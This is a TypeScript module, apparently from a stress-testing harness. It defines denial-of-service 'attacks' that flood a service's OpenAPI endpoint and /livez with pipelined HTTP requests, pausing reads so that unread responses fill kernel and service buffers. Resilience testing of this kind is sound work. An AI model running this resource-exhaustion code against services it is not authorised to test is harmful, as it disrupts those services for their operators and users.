/** Pipelined requests, whose responses are read or not. */
import { keepConnected } from "../wire/crowd.js";
import { countResponses, encodeHead, pump } from "../wire/http1.js";
import type { Attack, AttackTarget } from "./attack.js";

const REQUESTS_PER_WRITE = 200;
const OPENAPI_CONNECTIONS = 30;
const LIVEZ_CONNECTIONS = 4;

export const pipelinedOpenApi: Attack = async (target, tally, signal) => {
  const batch = repeat(encodeHead("GET", await openApiPath(target)));
  await keepConnected(target, tally, signal, {
    count: OPENAPI_CONNECTIONS,
    use(socket) {
      // Pausing before the first read leaves every response in the buffers of the kernel and the service.
      socket.pause();
      pump(socket, () => {
        tally.requests += REQUESTS_PER_WRITE;
        return batch;
      });
    },
  });
};

export const pipelinedLivez: Attack = async (target, tally, signal) => {
  const batch = repeat(encodeHead("GET", "/livez"));
  await keepConnected(target, tally, signal, {
    count: LIVEZ_CONNECTIONS,
    use(socket) {
      countResponses(socket, tally);
      pump(socket, () => {
        tally.requests += REQUESTS_PER_WRITE;
        return batch;
      });
    },
  });
};

/** `/` names the path of the OpenAPI document. */
export async function openApiPath({ url }: AttackTarget): Promise<string> {
  const { openapi } = (await (await fetch(url)).json()) as { readonly openapi?: string };
  if (openapi === undefined) throw new Error("the service names no OpenAPI document");
  return openapi;
}

const repeat = (request: Buffer): Buffer => Buffer.concat(Array.from({ length: REQUESTS_PER_WRITE }, () => request));
